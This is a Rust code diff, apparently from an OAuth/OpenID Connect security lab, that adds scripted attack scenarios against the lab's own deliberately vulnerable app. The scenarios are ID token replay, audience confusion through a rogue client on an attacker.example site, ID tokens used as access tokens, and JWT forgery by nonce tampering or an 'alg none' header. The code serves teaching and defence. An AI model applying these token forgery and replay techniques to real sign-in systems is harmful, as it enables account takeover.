@@ -6,12 +6,15 @@
 
 use super::agent::{Browser, DEMO_USER};
 use super::app::http::{app_client, register_as, LabHttp};
+use super::app::oidc;
 use super::runs::RunClient;
 use super::Lab;
-use crate::oauth::endpoints::{INTROSPECT, TOKEN};
+use crate::oauth::endpoints::{INTROSPECT, REGISTER, TOKEN};
 use crate::oauth::protocol::GrantType;
 use crate::run::scenario::{Scenario, MISUSE_HEADER};
-use crate::run::{Channel, Role, RunStatus, Step, StepKind};
+use crate::run::{Grant, Role, RunStatus, Step, StepKind};
+use base64::engine::general_purpose::URL_SAFE_NO_PAD;
+use base64::Engine;
 use oauth2::{AccessToken, PkceCodeChallenge, RefreshToken, Scope, StandardRevocableToken, TokenResponse};
 use std::time::Duration;
 
@@ -24,6 +27,10 @@ pub async fn play(s: &Lab, run: &str, scenario: Scenario, clock_speed: u64) -> R
     // However the scenario ends, its request dropped or timed out
     // included, its vulnerable switch goes off.
     let _disarm = Disarm { s, run };
+    if scenario.grant() == Grant::OpenIdConnect {
+        // The relying party discovers the provider before it registers.
+        oidc::discover(s, run).await?;
+    }
     let c = register_as(s, run, scenario.grant(), scenario.public_client()).await?;
     let result = match scenario {
         Scenario::CsrfState => csrf_state(s, run, &c).await,
@@ -42,6 +49,11 @@ pub async fn play(s: &Lab, run: &str, scenario: Scenario, clock_speed: u64) -> R
         Scenario::RevokedToken => revoked_token(s, run, &c).await,
         Scenario::TokenInUrl => token_in_url(s, run).await,
         Scenario::SecretInUrl => secret_in_url(s, run, &c).await,
+        Scenario::IdTokenReplay => id_token_replay(s, run).await,
+        Scenario::IdTokenAudience => id_token_audience(s, run).await,
+        Scenario::IdTokenAsAccessToken => id_token_as_access_token(s, run).await,
+        Scenario::IdTokenTampered => id_token_forged(s, run, Scenario::IdTokenTampered).await,
+        Scenario::IdTokenAlgNone => id_token_forged(s, run, Scenario::IdTokenAlgNone).await,
     };
     match &result {
         Ok(()) => s.runs.finish_scenario(run, RunStatus::Done),
@@ -64,7 +76,7 @@ impl Drop for Disarm<'_> {
 
 /// A step off the wire, where it happens in the story.
 fn note(s: &Lab, run: &str, kind: StepKind, from: Role, to: Role, label: &str) {
-    let step = Step { kind, from, to, channel: Channel::Local, label: label.to_string(), exchange: None };
+    let step = Step::local(kind, from, to, label);
     s.runs.push(run, s.runs.next_seq(), step);
 }
 
@@ -439,4 +451,143 @@ async fn secret_in_url(s: &Lab, run: &str, c: &RunClient) -> Result<(), String> 
         .map_err(|e| format!("the service's token request failed: {e}"))?;
     app_api(s, run, token.access_token().secret(), None).await?;
     Ok(())
+}
+
+/// alice signs in to the OpenID Connect app, and its token response carries
+/// her ID token: what Mallory gets hold of.
+async fn alice_signs_in_with_oidc(s: &Lab, run: &str) -> Result<String, String> {
+    let mut alice = Browser::alice(s).of(run);
+    let back = alice.sign_in(run, DEMO_USER, &oidc::SCOPES).await?;
+    alice.get(&back).await?;
+    recorded(s, run, "id_token", 0)
+}
+
+/// Mallory starts a sign-in of her own at the app and reads the nonce in the
+/// authentication request; the app keeps it for her browser.
+async fn mallory_begins_a_sign_in<'a>(s: &'a Lab, run: &str) -> Result<(Browser<'a>, String), String> {
+    let mut mallory = Browser::mallory(s).of(run);
+    let (status, location, _) = mallory.get(&format!("/lab/runs/{run}/login")).await?;
+    if status != 302 {
+        return Err(format!("the app answered {status} instead of redirecting"));
+    }
+    let nonce = query_value(&location, "nonce").ok_or("no nonce in the authentication request")?;
+    Ok((mallory, nonce))
+}
+
+/// Mallory posts `id_token` to the app's sign-in endpoint: the misuse.
+async fn mallory_signs_in_with(
+    mallory: &mut Browser<'_>,
+    run: &str,
+    id_token: &str,
+    tag: &'static str,
+) -> Result<(), String> {
+    mallory.misuse = Some(tag);
+    mallory.post_form(&format!("/lab/runs/{run}/id-token"), &[("id_token", id_token)]).await?;
+    Ok(())
+}
+
+async fn id_token_replay(s: &Lab, run: &str) -> Result<(), String> {
+    let tag = Scenario::IdTokenReplay.slug();
+    let stolen = alice_signs_in_with_oidc(s, run).await?;
+    note(s, run, StepKind::Attack, Role::Attacker, Role::Attacker, "finds alice's ID token in a log");
+    let (mut mallory, _) = mallory_begins_a_sign_in(s, run).await?;
+    mallory_signs_in_with(&mut mallory, run, &stolen, tag).await
+}
+
+/// Mallory's own site signs alice in with the app's nonce, and Mallory
+/// posts the ID token it got, issued to her site, to the app.
+async fn id_token_audience(s: &Lab, run: &str) -> Result<(), String> {
+    let tag = Scenario::IdTokenAudience.slug();
+    let (mut mallory, nonce) = mallory_begins_a_sign_in(s, run).await?;
+    let site = "https://quiz.attacker.example/signed-in";
+    let meta = serde_json::json!({
+        "client_name": "Mallory's quiz",
+        "redirect_uris": [site],
+        "grant_types": ["authorization_code"],
+        "scope": "openid profile email",
+        "token_endpoint_auth_method": "none",
+    });
+    let req = mallory.http.post(format!("{}{REGISTER}", s.settings.internal_url)).json(&meta);
+    let (status, _, body) = mallory.send(req).await?;
+    let quiz: serde_json::Value = serde_json::from_str(&body).map_err(|e| e.to_string())?;
+    let quiz = quiz["client_id"]
+        .as_str()
+        .filter(|_| status == 201)
+        .ok_or(format!("her site's registration failed: {body}"))?;
+    note(
+        s,
+        run,
+        StepKind::Attack,
+        Role::Attacker,
+        Role::UserAgent,
+        "invites alice to her quiz site, which signs in with the app's nonce",
+    );
+    let (challenge, verifier) = PkceCodeChallenge::new_random_sha256();
+    let url = format!(
+        "/oauth/authorize?response_type=code&client_id={}&redirect_uri={}&scope=openid%20profile%20email&state=quiz&nonce={}&code_challenge={}&code_challenge_method=S256",
+        enc(quiz),
+        enc(site),
+        enc(&nonce),
+        challenge.as_str()
+    );
+    let mut alice = Browser::alice(s).of(run);
+    let back = alice.approve(&url, DEMO_USER, &["openid", "profile", "email"]).await?;
+    let code = query_value(&back, "code").ok_or("no code in the redirect to her site")?;
+    let (_, _, body) = mallory
+        .post_form(
+            TOKEN,
+            &[
+                ("grant_type", GrantType::AuthorizationCode.as_str()),
+                ("code", &code),
+                ("redirect_uri", site),
+                ("client_id", quiz),
+                ("code_verifier", verifier.secret()),
+            ],
+        )
+        .await?;
+    let token: serde_json::Value = serde_json::from_str(&body).map_err(|e| e.to_string())?;
+    let id_token = token["id_token"].as_str().ok_or("her site got no ID token")?;
+    mallory_signs_in_with(&mut mallory, run, id_token, tag).await
+}
+
+async fn id_token_as_access_token(s: &Lab, run: &str) -> Result<(), String> {
+    let tag = Scenario::IdTokenAsAccessToken.slug();
+    let stolen = alice_signs_in_with_oidc(s, run).await?;
+    note(s, run, StepKind::Attack, Role::Attacker, Role::Attacker, "finds alice's ID token in a log");
+    let mut mallory = Browser::mallory(s).of(run);
+    mallory.misuse = Some(tag);
+    api_as(&mut mallory, &stolen).await.map(drop)
+}
+
+/// alice's ID token with its nonce set to `nonce`: its signature kept
+/// (tampered), or its header turned to alg none and the signature dropped.
+fn forge(id_token: &str, nonce: &str, alg_none: bool) -> Result<String, String> {
+    let mut parts = id_token.split('.');
+    let (Some(header), Some(payload), Some(signature)) = (parts.next(), parts.next(), parts.next()) else {
+        return Err("the ID token is not a JWS".into());
+    };
+    let claims = URL_SAFE_NO_PAD.decode(payload).map_err(|e| e.to_string())?;
+    let mut claims: serde_json::Value = serde_json::from_slice(&claims).map_err(|e| e.to_string())?;
+    claims["nonce"] = nonce.into();
+    let payload = URL_SAFE_NO_PAD.encode(claims.to_string());
+    Ok(if alg_none {
+        format!("{}.{payload}.", URL_SAFE_NO_PAD.encode(r#"{"alg":"none","typ":"JWT"}"#))
+    } else {
+        format!("{header}.{payload}.{signature}")
+    })
+}
+
+async fn id_token_forged(s: &Lab, run: &str, scenario: Scenario) -> Result<(), String> {
+    let stolen = alice_signs_in_with_oidc(s, run).await?;
+    note(s, run, StepKind::Attack, Role::Attacker, Role::Attacker, "finds alice's ID token in a log");
+    let (mut mallory, nonce) = mallory_begins_a_sign_in(s, run).await?;
+    let alg_none = scenario == Scenario::IdTokenAlgNone;
+    let forged = forge(&stolen, &nonce, alg_none)?;
+    let what = if alg_none {
+        "sets the nonce to her sign-in's, the header to alg none, and drops the signature"
+    } else {
+        "sets the nonce to her sign-in's and keeps the provider's signature"
+    };
+    note(s, run, StepKind::Attack, Role::Attacker, Role::Attacker, what);
+    mallory_signs_in_with(&mut mallory, run, &forged, scenario.slug()).await
 }
